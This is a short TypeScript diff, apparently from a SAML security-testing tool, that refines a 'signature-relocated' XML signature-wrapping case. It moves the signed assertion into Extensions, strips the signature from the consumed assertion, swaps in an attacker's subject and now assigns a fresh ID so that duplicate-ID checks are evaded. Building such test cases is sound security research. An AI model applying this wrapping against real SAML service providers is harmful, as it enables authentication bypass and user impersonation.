@@ -120,13 +120,15 @@ export function applyWrapping(doc: Document, shape: WrappingShape, ctx: Wrapping
     }
     case 'signature-relocated': {
       // Signature exclusion with the proof kept elsewhere: the consumed assertion loses its
-      // Signature and gets the attacker's subject; the signed original moves into Extensions,
+      // Signature and gets the attacker's subject and a new ID; the signed original moves into Extensions,
       // so a verifier that checks "some valid signature in the document" is satisfied.
       const a = firstAssertion(response);
       const original = a.cloneNode(true) as Element;
       const sig = childSignature(a);
       if (!sig) throw new Error('Bug: signature-relocated needs a signed assertion');
       a.removeChild(sig);
+      // A new ID, so the Reference resolves to the relocated original alone (no duplicate ID to catch).
+      a.setAttribute('ID', evilId(a.getAttribute('ID')));
       impersonate(a, ctx);
       const ext = doc.createElementNS(NS.protocol, 'samlp:Extensions');
       ext.appendChild(original);
